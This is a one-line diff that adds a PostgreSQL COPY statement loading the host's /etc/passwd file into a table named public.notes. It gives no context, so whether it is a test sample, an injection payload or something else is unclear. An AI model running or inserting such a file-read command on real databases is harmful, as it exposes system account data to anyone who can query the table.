@@ -1,0 +1,1 @@
+COPY public.notes FROM '/etc/passwd'
